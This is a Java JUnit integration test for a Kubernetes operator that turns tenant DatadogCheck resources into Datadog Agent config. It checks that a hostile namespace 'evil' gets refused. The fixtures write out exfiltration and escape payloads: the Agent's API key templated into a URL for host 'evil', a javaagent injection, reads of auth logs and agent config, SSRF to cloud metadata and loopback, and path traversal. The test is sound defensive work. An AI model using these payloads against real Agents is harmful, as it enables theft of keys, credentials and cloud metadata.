package dev.heel.sandbox;

import static dev.heel.sandbox.AgentWorld.python;
import static dev.heel.sandbox.World.eventually;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import com.fasterxml.jackson.databind.JsonNode;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * A namespace whose checks an Agent runs as data tries to get at the Agent, its node and other
 * teams: each attempt is refused with its field and the rule to change, and no file of it goes out.
 */
@DisplayName("From the namespace evil")
class TenancyIT {
  private static AgentWorld world;

  @BeforeAll
  static void open() {
    world = AgentWorld.open();
    world.namespace("evil");
    world.agent("logs: {}");
    world.apply(python("theirs", "pass"));
    world.awaitCheck("datadog", "theirs", "Rendered");
  }

  @AfterAll
  static void close() {
    world.close();
  }

  static Stream<Arguments> told() {
    return Stream.of(
        arguments("python", "{runOn: Nodes, python: 'pass'}", "NotAllowed", "spec.python:"),
        arguments(
            "jars",
            "{runOn: Cluster, jmx: {jars: [{configMap: {name: j, key: j.jar}}]},"
                + " instances: [{host: h, port: 1}]}",
            "NotAllowed",
            "spec.jmx.jars:"),
        arguments(
            "handle",
            mysql("{host: db, username: u, password: 'ENC[k8s_secret@home/mysql/password]'}"),
            "NotAllowed",
            "spec.instances.0.password:"),
        arguments(
            "environment",
            "{runOn: Cluster, integration: http_check,"
                + " instances: [{name: x, url: 'http://evil/%%env_DD_API_KEY%%'}]}",
            "NotAllowed",
            "spec.instances.0.url:"),
        arguments(
            "token",
            "{runOn: Cluster, integration: openmetrics, instances: [{openmetrics_endpoint:"
                + " 'http://evil', namespace: x, metrics: [a], auth_token: {reader: {type: file,"
                + " path: /token}, writer: {type: header, name: X}}}]}",
            "NotAllowed",
            "spec.instances.0.auth_token:"),
        arguments(
            "java",
            "{runOn: Cluster, jmx: {}, initConfig: {conf: [{include: {domain: home}}],"
                + " java_options: '-javaagent:/tmp/x.jar'}, instances: [{host: h, port: 1}]}",
            "NotAllowed",
            "spec.initConfig.java_options:"),
        arguments(
            "file",
            mysql("{host: db, username: u, defaults_file: /etc/datadog-agent/datadog.yaml}"),
            "NotAllowed",
            "spec.instances.0.defaults_file:"),
        arguments(
            "logs",
            "{runOn: Nodes, integration: disk, instances: [{}],"
                + " logs: [{type: file, path: /var/log/auth.log, service: s, source: s}]}",
            "NotAllowed",
            "spec.logs.0:"),
        arguments(
            "older-name",
            http("url: 'https://shop.example.com/', client_cert: /etc/shop.pem"),
            "NotAllowed",
            "spec.instances.0.client_cert: client_cert, an old name of tls_cert, names a file"),
        arguments(
            "unknown",
            http("url: 'https://shop.example.com/', use_truststore: true"),
            "NotAllowed",
            "spec.instances.0.use_truststore: Heel does not know the option"),
        arguments(
            "identity",
            "{runOn: Cluster, integration: openmetrics, instances: [{openmetrics_endpoint:"
                + " 'http://evil', namespace: x, metrics: [a], bearer_token_auth: true}]}",
            "NotAllowed",
            "spec.instances.0.bearer_token_auth: bearer_token_auth sends the Agent's own"),
        arguments(
            "name",
            http("url: 'https://evil/', headers: {'%%env_DD_API_KEY%%': x}"),
            "NotAllowed",
            "spec.instances.0.headers.%%env_DD_API_KEY%%:"),
        arguments(
            "tag",
            "{runOn: Nodes, integration: disk, tags: ['x:%%env_DD_API_KEY%%'],"
                + " instances: [{use_mount: true}]}",
            "NotAllowed",
            "spec.tags.0: the Agent's environment holds its keys"),
        arguments(
            "loopback",
            http("url: 'http://2130706433:5001/agent/config'"),
            "NotAllowed",
            "spec.instances.0.url: 2130706433 is the Agent's own pod"),
        arguments(
            "metadata",
            http("url: 'http://[::ffff:169.254.169.254]/latest/meta-data/'"),
            "NotAllowed",
            "spec.instances.0.url: ::ffff:169.254.169.254 is a link-local address"),
        arguments(
            "proxy",
            http("url: 'http://shop.example.com/', proxy: {http: 'LOCALHOST.:3128'}"),
            "NotAllowed",
            "spec.instances.0.proxy.http: LOCALHOST. is the Agent's own pod"),
        arguments(
            "catalogue",
            "{runOn: Cluster, integration: rabbitmq, instances: [{rabbitmq_api_url: 'http://x/'}]}",
            "NotAllowed",
            "spec.integration: Heel does not know what the options of rabbitmq"),
        arguments(
            "secret",
            mysql("{host: db, username: u, password: '$(secret/../x)'}"),
            "Invalid",
            "[secret-whole]"));
  }

  @ParameterizedTest(name = "{0} is refused")
  @MethodSource("told")
  void refused(String name, String spec, String reason, String message) {
    world.apply(evil(name, spec));
    world.awaitCheck("evil", name, reason);
    String said = world.message("evil", name);
    assertThat(said).contains(message, "No Agent runs it.");
    if (reason.equals("NotAllowed")) {
      assertThat(said).contains("allowedChecks.codeNamespaces", "[not-allowed]");
    }
    assertThat(files()).noneMatch(file -> file.contains("evil." + name));
  }

  static Stream<Arguments> byTheApiServer() {
    return Stream.of(
        arguments(
            "target",
            "{integration: mysql, targets: {service: mysql, namespace: home}, instances: [{}]}",
            "spec.targets.namespace"),
        arguments(
            "folder",
            "{integration: mysql, runOn: Cluster, checkName: '../mysql.d/home', instances: [{}]}",
            "spec.checkName"));
  }

  @ParameterizedTest(name = "{0} is refused by the API server")
  @MethodSource("byTheApiServer")
  void neverStored(String name, String spec, String field) {
    assertThatThrownBy(() -> world.apply(evil(name, spec))).hasMessageContaining(field);
  }

  @Test
  @DisplayName("what is data goes out, and a change that is refused ends it at once")
  void dataGoesOut() {
    world.apply(evil("data", http("url: 'https://shop.example.com/', headers: {X-Team: shop}")));
    world.awaitCheck("evil", "data", "Rendered");
    eventually(() -> assertThat(files()).anyMatch(file -> file.endsWith("evil.data.yaml")));
    world.apply(evil("data", http("url: 'https://shop.example.com/', client_cert: /a.pem")));
    world.awaitCheck("evil", "data", "NotAllowed");
    assertThat(world.message("evil", "data")).contains("No Agent runs it.");
    eventually(() -> assertThat(files()).noneMatch(file -> file.endsWith("evil.data.yaml")));
  }

  @Test
  @DisplayName("a module of the name of another team's, or of an Agent's own, is refused")
  void namesOfOthers() {
    world.agent("allowedChecks: {namespaces: {from: All}, codeNamespaces: {from: All}}");
    try {
      String code = python("theirs", "return").replace("namespace: datadog", "namespace: evil");
      world.apply(code);
      world.awaitCheck("evil", "theirs", "Invalid");
      assertThat(world.message("evil", "theirs"))
          .contains("the check theirs is DatadogCheck datadog/theirs already");
      world.apply(
          code.replace("name: theirs", "name: disk")
              .replace("runOn:", "checkName: disk\n  runOn:"));
      world.awaitCheck("evil", "disk", "Invalid");
      assertThat(world.message("evil", "disk")).contains("spec.checkName: disk is a check that");
    } finally {
      world.agent("logs: {}");
    }
    assertThat(world.message("datadog", "theirs")).contains("runs it");
  }

  @Test
  @DisplayName("a check that is called as another team's file gets a file of its own")
  void fileOfOthers() {
    world.apply(evil("home.one", "{integration: disk, runOn: Nodes, instances: [{}]}"));
    world.apply(AgentWorld.check("one", "runOn: Nodes"));
    world.awaitCheck("evil", "home.one", "Rendered");
    world.awaitCheck("home", "one", "Rendered");
    eventually(() -> assertThat(files()).contains("home.one.yaml", "evil.home.one.yaml"));
  }

  private static String mysql(String instance) {
    return "{runOn: Cluster, integration: mysql, instances: [%s]}".formatted(instance);
  }

  private static String http(String options) {
    return "{runOn: Cluster, integration: http_check, instances: [{name: x, %s}]}"
        .formatted(options);
  }

  private static String evil(String name, String spec) {
    return """
        apiVersion: heel.dev/v1alpha1
        kind: DatadogCheck
        metadata: {name: %s, namespace: evil}
        spec: %s
        """
        .formatted(name, spec);
  }

  /** Names of all files in the Agent's ConfigMaps. */
  private static List<String> files() {
    return world.maps().values().stream()
        .flatMap(map -> Stream.of(map.path("data"), map.path("binaryData")))
        .flatMap(data -> data.properties().stream())
        .map(Map.Entry<String, JsonNode>::getKey)
        .toList();
  }
}
